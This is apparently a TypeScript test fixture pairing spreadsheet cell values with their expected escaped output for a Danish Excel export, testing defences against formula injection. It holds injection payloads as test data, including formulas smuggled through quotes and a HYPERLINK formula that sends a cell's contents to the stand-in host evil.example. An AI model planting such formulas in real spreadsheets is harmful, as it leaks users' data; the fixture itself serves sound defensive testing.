import type { SpreadsheetCell } from '../../../src/files/spreadsheet-cell.ts';

/** How a cell stands in a file for Excel in Danish. X-022, a number that is refused, stands with its test. */
export const cellCases: readonly (readonly [id: string, cell: SpreadsheetCell, written: string])[] = [
  ['X-001', '=1+1', '"\'=1+1"'],
  ['X-002', '+4520304050', '"\'+4520304050"'],
  ['X-004', '@SUM(1)', '"\'@SUM(1)"'],
  ['X-006', '\r=1', '"\'\r=1"'],
  ['X-007', '\n=1', '"\'\n=1"'],
  ['X-009', '\uff1d1+1', '"\'\uff1d1+1"'],
  ['X-011', '\uff0d1', '"\'\uff0d1"'],
  ['X-012', '\uff20x', '"\'\uff20x"'],
  ['X-014', '\u0000=1', '"\'=1"'],
  ['X-016', 'a"b', '"a""b"'],
  ['X-017', 'a";=1+1;"', '"a"";=1+1;"""'],
  ['X-019', -0.4, '-0,4'],
  ['X-021', null, ''],
  ['X-024', '007', '007'],
  // Left to the caller, who looks for such text in every export and stops it there.
  ['X-026', '230495-0001', '230495-0001'],
  ['C-037', '\t=1+1', '"\'\t=1+1"'],
  ['C-037', '-1+1|x', '"\'-1+1|x"'],
  ['C-039', '=HYPERLINK("https://evil.example/?x="&A1;"klik")', '"\'=HYPERLINK(""https://evil.example/?x=""&A1;""klik"")"'],
];
